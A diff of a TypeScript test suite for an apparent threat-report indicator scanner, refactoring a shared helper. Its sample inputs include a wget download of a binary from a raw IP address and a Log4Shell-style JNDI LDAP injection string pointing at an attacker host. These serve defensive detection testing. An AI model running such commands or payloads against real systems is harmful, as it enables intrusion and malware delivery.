@@ -2,6 +2,8 @@ import * as assert from 'node:assert/strict';
 import { scanText, type IocMatch } from '../../src/core';
 
 const found = (text: string): string[] => scanText(text).filter((m) => m.role === 'indicator').map((m) => `${m.type} ${m.value}`);
+/** Every occurrence's role and value, citations too. */
+const roles = (text: string): string[] => scanText(text).map((m) => `${m.role} ${m.value}`);
 const one = (text: string): IocMatch => {
 	const all = scanText(text);
 	assert.equal(all.length, 1, `one match in ${JSON.stringify(text)}, got ${JSON.stringify(all)}`);
@@ -159,7 +161,6 @@ suite('scanText: context beats regex', () => {
 		assert.deepEqual(found('C2 2001:db8::1 and fe80::1:2'), ['ipv6 2001:db8::1', 'ipv6 fe80::1:2']);
 	});
 	test('in a report that defangs, a live link to an address is still an indicator; a live link to a host is a citation', () => {
-		const roles = (text: string) => scanText(text).map((m) => `${m.role} ${m.value}`);
 		assert.deepEqual(roles('C2 evil190[.]com. Then wget http://45.9.148.62/bins/x86; see https://www.vendor-research.com/blog'), [
 			'indicator evil190.com',
 			'indicator http://45.9.148.62/bins/x86',
@@ -187,7 +188,6 @@ suite('scanText: context beats regex', () => {
 		assert.deepEqual(found('CVE\u20112024\u20111709 and CVE\u20132023\u20134966'), ['cve CVE-2024-1709', 'cve CVE-2023-4966']);
 	});
 	test("security vendors' research blogs and the security press are citations, in a report that defangs nothing", () => {
-		const roles = (text: string) => scanText(text).map((m) => `${m.role} ${m.value}`);
 		assert.deepEqual(roles('d41d8cd98f00b204e9800998ecf8427e per https://www.crowdstrike.com/blog/foo/ and https://cloud.google.com/blog/x; payload https://drive.google.com/file/d/abc'), [
 			'indicator d41d8cd98f00b204e9800998ecf8427e',
 			'reference https://www.crowdstrike.com/blog/foo/',
@@ -213,7 +213,6 @@ suite('scanText: context beats regex', () => {
 		]);
 	});
 	test('in a report that defangs, a live link with a scheme no citation uses, or to an onion service, is an indicator', () => {
-		const roles = (text: string) => scanText(text).map((m) => `${m.role} ${m.value}`);
 		assert.deepEqual(roles('evil[.]com. ${jndi:ldap://attacker-ldap.net:1389/a} irc://irc.bad.net:6667 http://abcdefghijklmnop.onion/x https://vendor-blog.com/post'), [
 			'indicator evil.com',
 			'indicator ldap://attacker-ldap.net:1389/a',
